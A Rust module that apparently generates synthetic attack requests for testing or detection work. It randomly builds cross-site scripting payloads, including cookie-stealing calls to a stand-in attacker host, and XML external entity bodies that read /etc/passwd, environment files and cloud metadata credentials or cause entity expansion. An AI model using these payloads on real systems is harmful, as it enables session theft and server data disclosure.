//! Grammars of the markup families: cross-site scripting (script elements, event handlers,
//! `javascript:` URLs, SVG/iframe tricks, JavaScript-context breakouts and polyglots built from
//! closing-tag chains) and XML external entities (DOCTYPE with SYSTEM/PUBLIC entities, parameter
//! entities, external DTDs, entity expansion and XInclude) written into the XML endpoints' bodies.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use rand::Rng;

use super::{attacker_host, keep_prefix, Built, SlotContext};
use crate::draft::{Body, SlotKind};
use crate::normal::{dress, ENDPOINTS};
use crate::vocab::{self as v, chance, pick, Rng8};

// ---- XSS --------------------------------------------------------------------------------------

fn js_action(rng: &mut Rng8) -> String {
    let n = rng.gen_range(1..1000);
    let host = attacker_host(rng);
    match rng.gen_range(0..20) {
        0..=3 => format!("alert({n})"),
        4 => "alert(document.domain)".to_string(),
        5 => "alert(document.cookie)".to_string(),
        6 => format!("prompt({n})"),
        7 => format!("confirm({n})"),
        8 => format!("alert`{n}`"),
        9 => "print()".to_string(),
        10 => format!("eval(atob('{}'))", STANDARD.encode(format!("alert({n})"))),
        11 => format!("fetch('//{host}/?c='+document.cookie)"),
        12 => format!("new Image().src='//{host}/l?c='+document.cookie"),
        13 => format!("document.location='https://{host}/c?'+document.cookie"),
        14 => format!("top['al'+'ert']({n})"),
        15 => format!("setTimeout('alert({n})')"),
        16 => format!("[].constructor.constructor('alert({n})')()"),
        17 => format!("navigator.sendBeacon('//{host}',document.cookie)"),
        18 => format!("import('//{host}/{}.js')", v::hex(rng, 4)),
        _ => format!("Function('ale'+'rt({n})')()"),
    }
}

const XSS_BREAKOUTS: &[&str] = &[
    "",
    "",
    "",
    "\">",
    "'>",
    "\"/>",
    "</textarea>",
    "</title>",
    "-->",
    ">",
    "'\">",
    "\"></a>",
];

/// `(element opening without '>', whether it needs a closing tag)`.
const XSS_ELEMENTS: &[&str] = &[
    "img src=x",
    "img src=1",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "marquee",
    "object data=x",
    "a href=#",
    "div",
    "math",
    "embed src=x",
    "textarea autofocus",
    "image src=1",
    "style",
    "x contenteditable",
    "video><source",
    "input type=image src=x",
];

const XSS_EVENTS: &[&str] = &[
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onclick",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onmouseenter",
    "onstart",
    "onwheel",
    "onfocusin",
    "onauxclick",
    "onpageshow",
];

fn event_element(rng: &mut Rng8, js: &str) -> String {
    let element = *pick(rng, XSS_ELEMENTS);
    let (tag, rest) = element.split_once(' ').unwrap_or((element, ""));
    let sep = *pick(rng, &[" ", " ", " ", "/", "%09", "%0a", "%0c"]);
    let rest = if rest.is_empty() {
        String::new()
    } else {
        format!("{rest}{sep}")
    };
    let event = *pick(rng, XSS_EVENTS);
    let quote = *pick(rng, &["", "", "\"", "'"]);
    let close = *pick(rng, &[">", ">", " >", "//>", "/>", " x>"]);
    format!("<{tag}{sep}{rest}{event}={quote}{js}{quote}{close}")
}

fn javascript_url(rng: &mut Rng8, js: &str) -> String {
    match rng.gen_range(0..8) {
        0..=2 => format!("javascript:{js}"),
        3 => format!("JaVaScRiPt:{js}"),
        4 => format!("javascript://%0a{js}"),
        5 => format!("java%09script:{js}"),
        6 => format!("&#106;avascript:{js}"),
        _ => format!(
            "data:text/html;base64,{}",
            STANDARD.encode(format!("<svg onload={js}>"))
        ),
    }
}

fn script_element(rng: &mut Rng8, js: &str) -> String {
    let host = attacker_host(rng);
    match rng.gen_range(0..7) {
        0..=2 => format!("<script>{js}</script>"),
        3 => format!("<script type=\"text/javascript\">{js}</script>"),
        4 => format!("<script src=\"//{host}/{}.js\"></script>", v::hex(rng, 5)),
        5 => format!("<script>{js}//"),
        _ => format!("<scr<script>ipt>{js}</scr</script>ipt>"),
    }
}

fn polyglot(rng: &mut Rng8, js: &str) -> String {
    const LEADS: &[&str] = &[
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/",
        "'\"",
        "\"'>",
        "'-->",
        "--></",
        "*/",
        "]]>",
        "\"`'><",
    ];
    let mut closers = vec![
        "</title>",
        "</textarea>",
        "</style>",
        "</noscript>",
        "</script>",
        "</template>",
        "</select>",
        "-->",
        "]]>",
        "</iframe>",
    ];
    let count = rng.gen_range(2..=5);
    let mut chain = String::new();
    for _ in 0..count {
        let i = rng.gen_range(0..closers.len());
        chain.push_str(closers.swap_remove(i));
    }
    let mid = *pick(rng, &["\"'>", "'>", "\">", ""]);
    let tail = *pick(rng, &["//", "<!--", "", "\\x3e", "-->"]);
    format!(
        "{}{chain}{mid}{}{tail}",
        pick(rng, LEADS),
        event_element(rng, js)
    )
}

/// Cross-site scripting in HTML, attribute, URL and JavaScript contexts.
pub(crate) fn xss(rng: &mut Rng8, slot: &SlotContext) -> String {
    let js = js_action(rng);
    if matches!(slot.kind, SlotKind::Url | SlotKind::Redirect) && chance(rng, 0.6) {
        return javascript_url(rng, &js);
    }
    let prefix = keep_prefix(rng, slot, 0.35);
    let breakout = *pick(rng, XSS_BREAKOUTS);
    let body = match rng.gen_range(0..20) {
        0..=4 => script_element(rng, &js),
        5..=10 => event_element(rng, &js),
        11 => format!(
            "<a href=\"{}\">{}</a>",
            javascript_url(rng, &js),
            pick(rng, &["click", "x", "here", "win a prize"])
        ),
        12 => format!("<iframe src=\"{}\"></iframe>", javascript_url(rng, &js)),
        13 => format!("<svg><animate onbegin={js} attributeName=x dur=1s>"),
        14 => format!(
            "<svg><a><animate attributeName=href values={}/><text x=20 y=20>{}</text></a>",
            javascript_url(rng, &js),
            pick(rng, &["click", "go", "x"])
        ),
        15 => format!("<iframe srcdoc=\"&lt;img src=x onerror={js}&gt;\">"),
        16 => format!("<math><mtext><table><mglyph><style><img src=x onerror={js}>"),
        17 => {
            let q = *pick(rng, &["'", "\""]);
            match rng.gen_range(0..5) {
                0 => format!("{q};{js};//"),
                1 => format!("{q}-{js}-{q}"),
                2 => format!("\\{q};{js}//"),
                3 => format!("</script><svg onload={js}>"),
                _ => format!("{q}}};{js};//"),
            }
        }
        18 => {
            let q = *pick(rng, &["\"", "'"]);
            let event = *pick(rng, XSS_EVENTS);
            format!("{q} autofocus {event}={q}{js}{q} x={q}")
        }
        _ => polyglot(rng, &js),
    };
    format!("{prefix}{breakout}{body}")
}

// ---- XXE --------------------------------------------------------------------------------------

fn entity_uri(rng: &mut Rng8) -> String {
    let host = attacker_host(rng);
    match rng.gen_range(0..15) {
        0..=2 => "file:///etc/passwd".to_string(),
        3 => pick(
            rng,
            &[
                "file:///etc/hostname",
                "file:///etc/shadow",
                "file:///etc/hosts",
            ],
        )
        .to_string(),
        4 => pick(rng, &["file:///c:/windows/win.ini", "file:///C:/boot.ini"]).to_string(),
        5 => "file:///proc/self/environ".to_string(),
        6 => "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_string(),
        7 | 8 => format!("http://{host}/{}", v::hex(rng, 6)),
        9 => format!("https://{host}/x.dtd"),
        10 => format!(
            "php://filter/convert.base64-encode/resource={}",
            pick(rng, &["/etc/passwd", "index.php", "config.php", "../.env"])
        ),
        11 => "expect://id".to_string(),
        12 => "netdoc:///etc/passwd".to_string(),
        13 => format!("jar:http://{host}/x.zip!/a"),
        _ => "file:///var/www/html/.env".to_string(),
    }
}

/// XML external entity attacks on the XML import endpoints.
pub(crate) fn xxe(rng: &mut Rng8) -> Built {
    let mut draft = None;
    for _ in 0..400 {
        let e = crate::normal::pick_endpoint(rng);
        let d = (e.build)(rng);
        if matches!(d.body, Body::Xml(_)) {
            draft = Some(d);
            break;
        }
    }
    let mut draft = draft.unwrap_or_else(|| {
        // The table has three XML endpoints; pick one directly if the draw missed them.
        let fallback = ENDPOINTS
            .iter()
            .map(|e| (e.build)(rng))
            .find(|d| matches!(d.body, Body::Xml(_)));
        fallback.unwrap_or_else(|| {
            crate::draft::Draft::new("POST", "api.example.io", "/api/v1/invoices/import")
        })
    });
    let mut doc = match &draft.body {
        Body::Xml(doc) => doc.clone(),
        _ => crate::draft::XmlDoc {
            root: "invoice".into(),
            fields: vec![("number".into(), "1".into())],
            prolog: String::new(),
            entity_field: None,
        },
    };
    let root = doc.root.clone();
    let ent = pick(
        rng,
        &["xxe", "x", "file", "ent", "data", "foo", "e1", "test"],
    )
    .to_string();
    let nl = if chance(rng, 0.3) { "\n" } else { "" };
    let field = rng.gen_range(0..doc.fields.len().max(1));
    let (doctype, reference) = match rng.gen_range(0..10) {
        0..=3 => {
            let uri = entity_uri(rng);
            (
                format!("<!DOCTYPE {root} [{nl}<!ENTITY {ent} SYSTEM \"{uri}\">{nl}]>"),
                Some(format!("&{ent};")),
            )
        }
        4 => {
            let uri = entity_uri(rng);
            let id = format!(
                "-//{}//{}",
                pick(rng, &["A", "OASIS", "W3C", "X"]),
                v::hex(rng, 4).to_uppercase()
            );
            (
                format!("<!DOCTYPE {root} [<!ENTITY {ent} PUBLIC \"{id}\" \"{uri}\">]>"),
                Some(format!("&{ent};")),
            )
        }
        5 | 6 => {
            let host = attacker_host(rng);
            let p = pick(rng, &["dtd", "remote", "p", "xx", "oob"]).to_string();
            let file = if chance(rng, 0.5) {
                format!(
                    "<!ENTITY % file SYSTEM \"{}\">{nl}",
                    pick(
                        rng,
                        &[
                            "file:///etc/passwd",
                            "file:///etc/hostname",
                            "php://filter/convert.base64-encode/resource=/etc/passwd"
                        ]
                    )
                )
            } else {
                String::new()
            };
            (
                format!("<!DOCTYPE {root} [{nl}{file}<!ENTITY % {p} SYSTEM \"http://{host}/{}.dtd\">{nl}%{p};{nl}]>", v::hex(rng, 4)),
                None,
            )
        }
        7 => {
            let host = attacker_host(rng);
            (
                format!(
                    "<!DOCTYPE {root} SYSTEM \"http://{host}/{}.dtd\">",
                    v::hex(rng, 5)
                ),
                None,
            )
        }
        8 => {
            let depth = rng.gen_range(3..=9);
            let width = rng.gen_range(5..=10);
            let base = pick(rng, &["lol", "ha", "a", "x"]).to_string();
            let mut decls = format!("<!ENTITY {base}0 \"{base}\">");
            for level in 1..=depth {
                let refs = format!("&{base}{};", level - 1).repeat(width);
                decls.push_str(&format!("<!ENTITY {base}{level} \"{refs}\">"));
            }
            (
                format!("<!DOCTYPE {root} [{decls}]>"),
                Some(format!("&{base}{depth};")),
            )
        }
        _ => {
            let target = *pick(
                rng,
                &[
                    "file:///etc/passwd",
                    "file:///c:/windows/win.ini",
                    "file:///proc/self/environ",
                ],
            );
            let include = format!(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"{target}\"/>"
            );
            doc.entity_field = Some((field, include.clone()));
            draft.body = Body::Xml(doc);
            let draft = dress(rng, draft);
            return Built {
                draft,
                payload: include,
            };
        }
    };
    let prolog = if doc.prolog.is_empty() && chance(rng, 0.6) {
        "<?xml version=\"1.0\"?>".to_string()
    } else {
        doc.prolog.clone()
    };
    doc.prolog = format!("{prolog}{nl}{doctype}{nl}");
    doc.entity_field = reference.map(|r| (field, r));
    draft.body = Body::Xml(doc);
    let draft = dress(rng, draft);
    Built {
        draft,
        payload: doctype,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn xss_payloads_carry_script_capable_markup() {
        let mut rng = Rng8::seed_from_u64(31);
        let slot = SlotContext {
            kind: SlotKind::Text,
            original: "shoes".into(),
            name: "q".into(),
            in_path: false,
        };
        let mut seen = std::collections::HashSet::new();
        for _ in 0..2000 {
            let p = xss(&mut rng, &slot).to_lowercase();
            assert!(
                [
                    "alert",
                    "prompt",
                    "confirm",
                    "print(",
                    "fetch(",
                    "document.",
                    "import(",
                    "eval(",
                    "function(",
                    "settimeout",
                    "constructor",
                    "sendbeacon",
                    "image()",
                    "<script src",
                    "base64,",
                    "'al'+'ert'"
                ]
                .iter()
                .any(|m| p.contains(m)),
                "{p}"
            );
            seen.insert(p);
        }
        assert!(seen.len() > 1600, "{} distinct", seen.len());
    }

    #[test]
    fn xxe_bodies_declare_a_doctype_or_xinclude_and_stay_on_xml_endpoints() {
        let mut rng = Rng8::seed_from_u64(32);
        for _ in 0..300 {
            let built = xxe(&mut rng);
            let r = built.draft.render();
            assert_eq!(r.header("content-type"), Some("application/xml"));
            assert!(
                r.body.contains("<!DOCTYPE") || r.body.contains("xi:include"),
                "{}",
                r.body
            );
            assert!(r.body.contains(&built.payload));
        }
    }
}
